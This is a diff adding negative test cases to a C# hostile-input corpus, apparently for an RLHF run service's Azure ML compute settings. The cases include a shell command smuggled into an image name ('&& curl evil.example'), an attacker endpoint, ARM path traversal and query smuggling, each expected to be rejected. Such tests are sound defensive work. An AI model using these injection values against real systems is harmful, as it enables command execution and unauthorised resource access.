@@ -96,6 +96,16 @@ public static class HostileCorpus
         HostileRequest.Spec("PPO tokens beyond the model's context", s => s["policy"]!["ppo"]!["maxNewTokens"] = 64, "$.policy.ppo.maxNewTokens", "h-ctx1"),
         HostileRequest.Spec("sampled tokens fill the model's context", s => s["sampling"]!["maxNewTokens"] = 96, "$.sampling.maxNewTokens", "h-ctx2"),
 
+        // --- Azure ML: a host without it refuses the runner; compute.azureml goes into ARM URL paths and a command line.
+        HostileRequest.Spec("azureml runner on a host without Azure ML", s => s["compute"]!["runner"] = "azureml", "$.compute.runner", "h-aml1"),
+        HostileRequest.Spec("azureml section with the local runner", s => s["compute"]!["azureml"] = new JsonObject { ["workspace"] = "mlw-x" }, "$.compute.azureml", "h-aml2"),
+        HostileRequest.Spec("ARM endpoint in the spec", s => AzureMl(s)["endpoint"] = "https://evil.example/", "$.compute.azureml.endpoint", "h-aml3"),
+        HostileRequest.Spec("workspace that walks the ARM path", s => AzureMl(s)["workspace"] = "mlw/../../../providers/Microsoft.Storage/storageAccounts/st", "$.compute.azureml.workspace", "h-aml4"),
+        HostileRequest.Spec("subscription that is not a GUID", s => AzureMl(s)["subscriptionId"] = "00000000-0000-0000-0000-000000000000?x=", "$.compute.azureml.subscriptionId", "h-aml5"),
+        HostileRequest.Spec("image with a shell command", s => AzureMl(s)["image"] = "cr.azurecr.io/t:1 && curl evil.example", "$.compute.azureml.image", "h-aml6"),
+        HostileRequest.Spec("timeout of a year", s => AzureMl(s)["timeout"] = "P365D", "$.compute.azureml.timeout", "h-aml7"),
+        HostileRequest.Spec("500,000-character compute name", s => AzureMl(s)["compute"] = new string('c', 500_000), "$.compute.azureml.compute", "h-aml8"),
+
         // --- Ids and tokens.
         HostileRequest.Raw("nightly run id", $"api/runs?runId=nightly-20300101T020000Z", Rlhf.Tests.Hosting.LocalHostFixture.TinySpec, Json, HttpStatusCode.BadRequest, "?runId", "nightly-20300101T020000Z"),
         HostileRequest.Raw("nightly run id, other case", "api/runs?runId=NIGHTLY-x", Rlhf.Tests.Hosting.LocalHostFixture.TinySpec, Json, HttpStatusCode.BadRequest, "?runId", "NIGHTLY-x"),
@@ -139,6 +149,15 @@ public static class HostileCorpus
         new("cross-site cancel", "POST", "api/runs/h-any/cancel", null, null, HttpStatusCode.Forbidden, null, Headers: new Dictionary<string, string> { ["Sec-Fetch-Site"] = "same-site" }),
         new("cross-origin purge", "DELETE", "api/runs/h-any", null, null, HttpStatusCode.Forbidden, null, Headers: new Dictionary<string, string> { ["Origin"] = "http://localhost.evil.example" }),
     ];
+
+    /// <summary>The spec's <c>compute.azureml</c> section, with the azureml runner.</summary>
+    private static JsonObject AzureMl(JsonObject spec)
+    {
+        spec["compute"]!["runner"] = "azureml";
+        var section = new JsonObject();
+        spec["compute"]!["azureml"] = section;
+        return section;
+    }
 
     /// <summary>The spec's AI labeling block, switched to <paramref name="judge"/> (mode ai).</summary>
     private static JsonObject Cai(JsonObject spec)
